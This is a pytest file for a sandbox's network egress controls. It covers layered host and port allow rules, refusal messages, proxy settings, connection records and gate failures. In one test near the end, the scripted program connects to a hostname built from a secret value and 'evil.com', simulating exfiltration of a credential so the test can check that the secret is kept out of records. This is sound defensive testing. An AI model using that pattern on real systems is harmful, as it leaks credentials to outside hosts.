"""The network of a run: its layers, what is refused, what the gate is told, and what the record tells."""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from typing import Any

import pytest

from skillyard.domain.errors import GateFault, IdempotencyConflict, InvalidInput
from skillyard.domain.network.policy import Layer, Policy
from skillyard.domain.network.rule import parse_rule
from skillyard.domain.network.session import Connection
from skillyard.domain.sandbox.guarantees import Level, Protection
from skillyard.domain.secret import Delivery
from skillyard.domain.skill.skill import Needs, SecretNeed
from skillyard.domain.work.record import RunStatus
from skillyard.engine.network.grant import check_offer
from skillyard.engine.observer import Fault, NetworkUsed
from skillyard.engine.runs.failure import Refused
from skillyard.testing.twin_sandbox import Script, TwinProcess
from tests.unit.engine.conftest import Rig
from tests.unit.engine.fakes import a_skill, raises, result
from tests.unit.engine.network.fake_gate import PROXY, TRUST, FakeGate

pytestmark = pytest.mark.anyio


def rules(*texts: str) -> Any:
    return tuple(map(parse_rule, texts))


def networked(*texts: str, name: str = "a.b", **needs: Any) -> Any:
    return a_skill(name, needs=Needs(network=texts, **needs))


def connecting(gate: FakeGate, *targets: tuple[str, int], ends: bytes = result({})) -> Script:
    """A program that tries to reach ``targets``."""

    async def script(process: TwinProcess) -> None:
        for host, port in targets:
            gate.last.connect(host, port, 10, 20)
        process.write(ends)

    return script


def layers(gate: FakeGate) -> list[tuple[str, list[str]]]:
    return [(layer.name, layer.texts()) for layer in gate.last.plan.policy.layers]


async def refused(rig: Rig, said: str, method: str = "execute_skill", **params: Any) -> None:
    run = await rig.call(method, **params)
    assert (run["status"], run["error"]["type"]) == ("failed", "PolicyRefused"), run
    assert said in run["error"]["message"], run["error"]
    assert rig.backend.started == []
    assert rig.gate is None or rig.gate.sessions == {}
    assert (await rig.record(run)).network is None


CODE: dict[str, Any] = {"language": "python", "code": "x = 1"}


async def test_a_skill_is_plugged_into_what_it_declares(rig: Rig) -> None:
    gate = rig.with_network()
    rig.skills.add(networked("api.x.com", "*.y.com:8443"))
    run = await rig.call("execute_skill", name="a.b")
    assert run["status"] == "completed"
    assert layers(gate) == [("operator", ["*"]), ("skill", ["api.x.com", "*.y.com:8443"])]
    [(spec, request, _)] = rig.backend.started
    assert spec.egress is not None
    assert (spec.egress.session, spec.egress.ports) == (gate.last.id, (80, 443, 8443))
    assert TRUST in spec.mounts
    assert request["env"] == {"HTTPS_PROXY": PROXY, "SSL_CERT_FILE": "/run/egress/ca.pem"}
    assert gate.last.closes == 1
    assert (await rig.record(run)).digests["network"]


async def test_without_rules_nothing_is_opened(rig: Rig) -> None:
    gate = rig.with_network()
    rig.skills.add(a_skill("plain"))
    rig.skills.add(networked("api.x.com", name="other"))
    for run in (
        await rig.run(),
        await rig.run(network=[]),
        await rig.call("execute_skill", name="plain", mount_skills=["other"]),
        await rig.call("execute_skill", name="other", network=[]),
        await rig.call("execute_skill", name="other", network=["!api.x.com"]),
    ):
        assert run["status"] == "completed"
        record = await rig.record(run)
        assert (record.network, record.digests.get("network")) == (None, None)
    assert gate.sessions == {}
    assert all(spec.egress is None and request["env"] == {} for spec, request, _ in rig.backend.started)


async def test_a_request_narrows(rig: Rig) -> None:
    gate = rig.with_network()
    rig.skills.add(networked("*.x.com", "api.y.com"))
    await rig.call("execute_skill", name="a.b", network=["api.x.com:443", "api.z.com"])
    assert layers(gate)[2] == ("request", ["api.x.com:443", "api.z.com"])
    assert gate.last.connect("api.x.com", 443)
    for host, port in (("api.x.com", 80), ("b.x.com", 443), ("api.y.com", 443), ("api.z.com", 443)):
        assert not gate.last.connect(host, port), host


@pytest.mark.parametrize(
    ("run_code", "expected"),
    [(rules("api.x.com", "!b.x.com"), ["api.x.com", "!b.x.com"]), ("mounted", ["api.y.com", "!c.y.com"])],
)
async def test_code_gets_what_the_operator_says(rig: Rig, run_code: Any, expected: list[str]) -> None:
    gate = rig.with_network(run_code=run_code)
    rig.skills.add(networked("api.y.com", "!c.y.com"))
    rig.skills.add(networked("api.y.com", name="again"))
    await rig.run(mount_skills=["a.b", "again"])
    assert layers(gate) == [("operator", ["*"]), ("code", expected)]


async def test_the_operators_rules_and_hosts_are_the_outermost_layer(rig: Rig) -> None:
    gate = rig.with_network(rules=rules("*.x.com"), hosts={"api.x.com": "192.0.2.1"})
    rig.skills.add(networked("api.x.com", "api.y.com"))
    await rig.call("execute_skill", name="a.b")
    assert list(map(str, gate.last.plan.policy.hosts["api.x.com"])) == ["192.0.2.1"]
    assert gate.last.connect("api.x.com", 443)
    assert not gate.last.connect("api.y.com", 443)
    assert gate.last.plan.limits == rig.app.config.network.limits.egress


@pytest.mark.parametrize(
    ("network", "needs", "request_", "said"),
    [
        ({}, ("*",), None, "'a.b' asks for every host (skill rule '*'), and the operator has not consented to that"),
        ({}, ("0.0.0.0/0",), None, "every host (skill rule '0.0.0.0/0')"),
        ({}, ("x.com",), ["*:443"], "the request asks for every host (request rule '*:443')"),
        ({}, (), ["x.com"], "asks for the network (x.com), and 'a.b' declares none"),
        ({"rules": ()}, ("x.com", "y.com"), None, "(x.com, y.com), and no operator rule allows any (network.rules)"),
        ({"rules": rules("!x.com")}, ("x.com",), None, "no operator rule allows any"),
    ],
)
async def test_what_a_skill_cannot_have(rig: Rig, network: Any, needs: Any, request_: Any, said: str) -> None:
    rig.with_network(**network)
    rig.skills.add(networked(*needs))
    await refused(rig, said, name="a.b", **({} if request_ is None else {"network": request_}))


@pytest.mark.parametrize(
    ("network", "said"),
    [
        ({}, "the request asks for the network (x.com), and the operator gives code none (network.run_code)"),
        ({"run_code": "mounted"}, "no mounted skill declares any (network.run_code = 'mounted')"),
    ],
)
async def test_what_code_cannot_have(rig: Rig, network: Any, said: str) -> None:
    rig.with_network(**network)
    await refused(rig, said, "run_code", **CODE, network=["x.com"])


async def test_code_that_mounts_a_skill_of_every_host_needs_consent(rig: Rig) -> None:
    rig.with_network(run_code="mounted")
    rig.skills.add(networked("*"))
    await refused(rig, "the code asks for every host (code rule '*')", "run_code", **CODE, mount_skills=["a.b"])
    gate = rig.with_network(run_code="mounted", open=True)
    assert (await rig.run(mount_skills=["a.b"]))["status"] == "completed"
    assert gate.last.plan.policy.every_port


async def test_a_backend_without_the_ability_is_named_with_the_mend(rig: Rig) -> None:
    rig.with_network()
    rig.skills.add(networked("x.com"))
    for why in (Protection(Level.MISSING, why="it has no namespaces", mend="use native"), None):
        abilities = {} if why is None else {"egress": why}
        rig.app.backends.admit(rig.backend, replace(rig.extra["probe"], abilities=abilities))
        expected = "it has no namespaces; use native" if why else "the backend does not offer it"
        said = f"(x.com), and isolation 'twin' cannot give it: {expected}"
        await refused(rig, said, name="a.b")


async def test_calls_of_tools_take_more_than_a_proxy(rig: Rig) -> None:
    rig.with_network()
    able = Protection(Level.KERNEL, by="a fake")
    check_offer(rig.app.backends.admit(rig.backend, rig.extra["probe"]), True, "calls of tools")
    offer = rig.app.backends.admit(rig.backend, replace(rig.extra["probe"], abilities={"egress": able}))
    check_offer(offer, True, Policy((Layer("operator", ()), Layer("code", rules("x.com")))))
    with pytest.raises(Refused, match=r"calls of tools\), .*through a proxy alone; use the isolation 'native'"):
        check_offer(offer, True, "calls of tools")


async def test_an_engine_without_a_gate_refuses(rig: Rig) -> None:
    rig.with_network()
    rig.gate = None
    rig.configure()
    rig.skills.add(networked("x.com"))
    await refused(rig, "cannot give it: this server has no gate", name="a.b")


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("open", "network: must be an array"),
        ([5], r"network\[0\]: must be a string"),
        (["x.com", "http://x.com"], r"network\[1\]: .*got string of 12 characters"),
        (["x.com"] * 257, "network: must have at most 256 entries"),
        (["x" * 600], r"network\[0\]: must have at most 512"),
    ],
)
async def test_a_request_that_is_no_list_of_rules(rig: Rig, value: Any, said: str) -> None:
    with pytest.raises(InvalidInput, match=said):
        await rig.run(network=value)


async def test_a_key_is_bound_to_the_network_that_was_asked_for(rig: Rig) -> None:
    rig.with_network(run_code=rules("x.com", "y.com"))
    first = await rig.run(network=["x.com"], idempotency_key="k")
    assert (await rig.run(network=["x.com"], idempotency_key="k"))["run_id"] == first["run_id"]
    others: tuple[dict[str, Any], ...] = ({"network": ["y.com"]}, {"network": []}, {})
    for other in others:
        with pytest.raises(IdempotencyConflict):
            await rig.run(idempotency_key="k", **other)


async def test_the_record_tells_what_was_reached_and_what_was_refused(rig: Rig) -> None:
    gate = rig.with_network(run_code=rules("x.com"))
    run = await rig.run(connecting(gate, ("x.com", 443), ("y.com", 443), ("x.com", 22)))
    network = (await rig.record(run)).network
    assert network is not None
    assert network["layers"] == [{"name": "operator", "rules": ["*"]}, {"name": "code", "rules": ["x.com"]}]
    assert (network["changes"], network["dropped"], network["complete"]) == ([], 0, True)
    told = [(c["host"], c["port"], c["allowed"], c["rule"], c["reason"]) for c in network["connections"]]
    assert told == [
        ("x.com", 443, True, "x.com", ""),
        ("y.com", 443, False, "", "no code rule allows y.com"),
        ("x.com", 22, False, "", "code rule 'x.com' does not allow port 22: write 'x.com:22'"),
    ]
    assert run["status"] == "completed"
    [event] = rig.of(NetworkUsed)
    assert (event.allowed, event.refused, event.sent_bytes, event.received_bytes) == (1, 2, 30, 60)
    assert event.refusals[0] == "y.com:443 refused: no code rule allows y.com"
    shown = (await rig.call("runs.show", run_id=run["run_id"]))["run"]
    assert shown["network"] == network
    assert "network" not in (await rig.call("runs.list"))["runs"][0]


async def test_the_session_is_closed_after_the_sandbox_is_gone(rig: Rig) -> None:
    gate = rig.with_network(run_code=rules("x.com"))
    destroy = rig.backend.destroy

    async def noted(handle: str) -> Any:
        gate.order.append(f"destroy {handle}")
        return await destroy(handle)

    rig.backend.destroy = noted  # type: ignore[method-assign]
    await rig.run()
    session = gate.last.id
    assert gate.order == [f"open {session}", "destroy twin-1", f"close {session}"]


async def until(condition: Any) -> None:
    async with asyncio.timeout(10):
        while not condition():
            await asyncio.sleep(0)


async def waiting(process: TwinProcess) -> None:
    await process.ended


@pytest.mark.parametrize("where", ["opening", "creating", "running"])
async def test_a_caller_that_goes_away_leaves_no_session(rig: Rig, where: str) -> None:
    gate = rig.with_network(run_code=rules("x.com"))
    go = asyncio.Event()
    if where == "opening":
        gate.hold = go
    elif where == "creating":
        rig.backend.gate = go
    task = asyncio.create_task(rig.run(waiting))
    async with asyncio.timeout(10):
        while not await rig.app.ports.records.unfinished():
            await asyncio.sleep(0)
    await until(lambda: {"opening": True, "creating": rig.backend.held, "running": rig.backend.started}[where])
    task.cancel()
    await asyncio.sleep(0)
    go.set()
    with pytest.raises(asyncio.CancelledError):
        await task
    await rig.app.tasks.drain()
    assert [session.closes for session in gate.sessions.values()] == [1]
    [record] = (await rig.call("runs.list"))["runs"]
    assert record["status"] == "failed"
    assert rig.backend.held == {}


async def test_a_gate_that_cannot_open_fails_the_run(rig: Rig) -> None:
    gate = rig.with_network(run_code=rules("x.com"))
    gate.down = True
    run = await rig.run()
    assert (run["status"], run["error"]["type"]) == ("failed", "SandboxError")
    assert "the gate is gone" in run["error"]["message"]
    assert rig.backend.started == []
    assert rig.of(Fault)[0].where == "sandbox"


async def test_a_gate_that_dies_leaves_a_record_that_says_so(rig: Rig) -> None:
    gate = rig.with_network(run_code=rules("x.com"))

    async def script(process: TwinProcess) -> None:
        gate.last.connect("x.com", 443)
        gate.down = True
        process.write(result({"ok": True}))

    run = await rig.run(script)
    network = (await rig.record(run)).network
    assert network is not None
    assert (run["status"], network["complete"], network["connections"]) == ("completed", False, [])
    assert any(fault.where == "gate" and isinstance(fault.error, GateFault) for fault in rig.of(Fault))


async def test_a_gate_that_was_lost_says_so(rig: Rig) -> None:
    gate = rig.with_network(run_code=rules("x.com"))

    async def script(process: TwinProcess) -> None:
        gate.last.connections.append(Connection("gate", "", 0, False, "gate", "", "the gate was lost: killed", 1))
        process.write(raises("ConnectionResetError", "[Errno 104] reset"))

    run = await rig.run(script)
    assert run["error"]["message"].endswith("(network: the gate was lost: killed)")
    network = (await rig.record(run)).network
    assert network is not None
    assert network["complete"] is False


async def test_what_a_lost_run_might_reach_is_known(rig: Rig) -> None:
    rig.with_network(run_code=rules("x.com"))
    task = asyncio.create_task(rig.run(waiting))
    await until(lambda: rig.backend.started)
    [record] = await rig.app.ports.records.unfinished()
    assert record.network is not None
    assert record.network["layers"][1] == {"name": "code", "rules": ["x.com"]}
    assert record.network["complete"] is False
    await rig.app.runs.cancel(record.run_id, "enough")
    await task


async def test_a_run_at_work_shows_its_connections(rig: Rig) -> None:
    gate = rig.with_network(run_code=rules("x.com"))
    task = asyncio.create_task(rig.run(waiting))
    await until(lambda: rig.backend.started)
    gate.last.connect("y.com", 443)
    [run_id] = rig.app.active
    run = (await rig.call("runs.show", run_id=run_id))["run"]
    assert run["status"] == RunStatus.RUNNING
    assert [(c["host"], c["allowed"]) for c in run["network"]["connections"]] == [("y.com", False)]
    await rig.app.runs.cancel(run_id, "enough")
    await task


SECRET = "S3cret-Value-9"


async def test_a_gate_secret_is_a_placeholder_inside_and_a_value_at_the_gate(rig: Rig) -> None:
    gate = rig.with_network()
    need = SecretNeed("TOKEN", delivery=Delivery.GATE, hosts=("api.x.com",))
    rig.skills.add(networked("api.x.com", secrets=(need, SecretNeed("PLAIN"))))
    await given(rig, TOKEN=SECRET, PLAIN="plain-value")

    async def script(process: TwinProcess) -> None:
        process.log(f"{process.request['env']['TOKEN']} {SECRET}\n".encode())
        gate.last.connect(f"{SECRET.lower()}.evil.com", 443)
        process.write(result({}))

    rig.backend.script = script
    run = await rig.call("execute_skill", name="a.b")
    [(_, request, _)] = rig.backend.started
    [secret] = gate.last.plan.secrets
    placeholder = request["env"]["TOKEN"]
    assert placeholder.startswith("skillyard-secret-")
    assert len(placeholder) == len("skillyard-secret-") + 32
    assert (secret.name, secret.placeholder, secret.value) == ("TOKEN", placeholder, SECRET)
    assert [rule.text for rule in secret.hosts] == ["api.x.com:443"]
    assert request["env"]["PLAIN"] == "plain-value"
    kept = json.dumps([run, (await rig.record(run)).as_dict()])
    assert SECRET not in kept
    assert SECRET.lower() not in kept
    assert placeholder in run["logs_preview"]
    assert "TOKEN" in (await rig.record(run)).digests["secrets"]


async def given(rig: Rig, **values: str) -> None:
    """Secrets in the store."""
    for name, value in values.items():
        await rig.secrets.set(name, value)
